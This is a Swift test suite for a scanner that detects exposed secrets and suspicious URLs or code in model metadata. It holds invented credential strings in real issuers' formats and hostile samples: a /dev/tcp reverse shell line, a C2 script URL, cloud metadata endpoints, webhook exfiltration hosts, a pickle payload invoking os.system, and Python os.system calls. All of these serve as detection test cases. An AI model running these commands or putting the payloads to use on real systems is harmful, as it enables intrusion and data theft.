import AssayCore
import ByteParsing
import Testing

@testable import Scanning

@Suite struct SecretTests {
    private func findings(_ text: String, named name: String = "general.description") -> [Finding] {
        let scan = Scan()
        MetadataJudge.judge(text, named: name, at: Location(), in: scan)
        return scan.findings
    }

    /// Invented values in the issuers' forms.
    @Test(arguments: [
        "AKIAQ7LMX4VRT2NBW6KD", "see ghp_9aKd83LmQz71PxWv04TnRb62YcHs58JfUeGt for it", "glpat-x7Kd92mLQpz4WvRt1nBc",
        "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", "xoxb-48201937562-9183746509123-QzXkLmVbNpRtWsYdGhJf",
        "AIzaSyB7kQ2mXv9TzLw4RnPc8JdHf1GaEuYi3Vs", "sk_live_4fGh82KlMn93QrSt71VwXy",
        "token = \"q8Zr4Tn1XvKc2Lm6Wp9Yb5Hd7Jf3Gs0E\"", "export DB_PASSWORD=t7#Kq9vLm2xZ",
        "aws_secret_access_key: q9Zr4Tn8XvKc2Lm6Wp1Yb5Hd7Jf3Gs0Ea+/uRiOk",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bq2vX9kLmPz4RtWc8JdHf1GaEuYi3VsQnBvXcLwRsPyGhJd\n",
        "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7bq2vX9kLmPz4RtWc8Jd\\n",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MjcifQ.k3Zr4Tn8XvKc2Lm6Wp1Yb5Hd7Jf3Gs0EaQuRiOkPlMn",
        "https://deploy:k9Qz7LmVx2@registry.internal.net/models",
        "curl -H 'Authorization: Bearer q8Zr4Tn1XvKc2Lm6Wp9Yb5Hd7J'",
        "zQ48Q~bT6kLmXv9TzLw4RnPc8JdHf1GaEuYi3Vsx",
    ])
    func isFound(_ text: String) {
        let found = findings(text)
        #expect(found.contains { $0.rule == "SECRET-EXPOSED" && $0.severity >= .medium }, "\(text)")
        // What is shown must not be usable.
        for finding in found { for detail in finding.details { #expect(detail.value.count < 40) } }
    }

    @Test(arguments: [
        "AKIAIOSFODNN7EXAMPLE", "hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "token = \"your_token_here_1234567890\"",
        "password=<PASSWORD>", "api_key = os.environ['API_KEY']", "pad_token: <|endoftext|>",
        "-----BEGIN CERTIFICATE-----\nMIIEpAIBAAKCAQEA7bq2vX9kLmPz4RtWc8JdHf1GaEuYi3VsQnBvXcLwRsPyGhJd\n",
        "-----BEGIN PRIVATE KEY-----", "model_id: 3f2504e0-4f89-11d3-9a0c-0305e82c3301",
        "sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "unk_token_id = 100264",
        "tokenizer_class: LlamaTokenizerFast2024", "a secret: the model sings in the shower",
        "https://user:password@localhost/db", "https://huggingface.co/org/model", "base64 is A-Za-z0-9+/",
        "image_token: reserved_special_token_250", "the key-value cache stores 32 heads",
        "task-oriented-dialogue-systems-2024-edition-v2",
    ])
    func isOrdinary(_ text: String) {
        #expect(findings(text).isEmpty, "\(text): \(findings(text).map(\.message))")
    }

    @Test(arguments: [
        ("source: http://203.0.113.7:4444/model", Severity.low), ("http://203.0.113.7/c2.sh", .medium),
        ("http://2130706433/x", .medium), ("http://0x7f.1/x", .medium), ("https://webhook.site/6f1c", .medium),
        ("https://discord.com/api/webhooks/1/x", .medium), ("http://abcdefghijklmnop.onion/", .medium),
        ("https://xn--80ak6aa92e.com/", .low), ("file:///etc/passwd", .low), ("https://pastebin.com/raw/x1y2", .low),
        ("https://host.net/setup.exe", .low), ("https://huggingface.co@203-0-113-7.host.net/x", .medium),
        ("https://huggingface.co:443@host.net/x", .medium), ("http://169.254.169.254/latest/meta-data/", .medium),
        ("http://metadata.google.internal/computeMetadata/v1/", .medium), ("http://[::ffff:203.0.113.7]/", .medium),
        ("http://%6c%6f/x", .medium), ("http://203-0-113-7.nip.io/x", .low),
        ("http://203-0-113-7.nip.io/x.sh", .medium),
        ("https://x.duckdns.org/m", .low), ("https://ab12.ngrok-free.app/m", .medium), ("https://bit.ly/3x", .low),
        ("https://WEBHOOK.SITE./6f1c", .medium), ("http://0177.0.0.1/x", .medium),
        ("__import__('os').system('id')", .medium),
        ("<script>alert(1)</script>", .low), ("bash -i >& /dev/tcp/203.0.113.7/1 0>&1", .medium),
        ("\u{1B}[2Jclean model", .low), ("model\u{202E}gpj.exe", .low),
        ("gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", .low),
        ("f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA", .high),
    ])
    func addressesAndCode(_ text: String, _ severity: Severity) {
        let worst = findings(text).map(\.severity).max() ?? .none
        #expect(worst == severity, "\(text): \(findings(text).map(\.message))")
    }

    @Test(arguments: [
        "https://orbit.ly/x", "https://notwebhook.site.example.org/", "https://discord.com/invite/abc",
        "https://first.last@git.host.net/x.git", "http://[::1]:8000/v1", "http://[fd12::7]/x",
        "https://host.net/run.shtml",
        "https://docs.host.net/bit.ly", "https://arxiv.org/abs/1810.04805", "http://localhost:8000/v1",
        "http://192.168.1.5/model",
        "see https://github.com/org/repo/blob/main/run.py",
        "A model that can eval­uate text", "int8 quantised; see the paper (section 3)",
        "https://huggingface.co/x/y?p=1#a",
        "SGVsbG8gd29ybGQsIHRoaXMgaXMgdGV4dA==", "aVeryLongIdentifierWithoutAnyMeaningAtAll", "2024-01-01T10:00:00Z",
    ])
    func ordinaryMetadata(_ text: String) {
        #expect(findings(text).isEmpty, "\(text): \(findings(text).map(\.message))")
    }
}
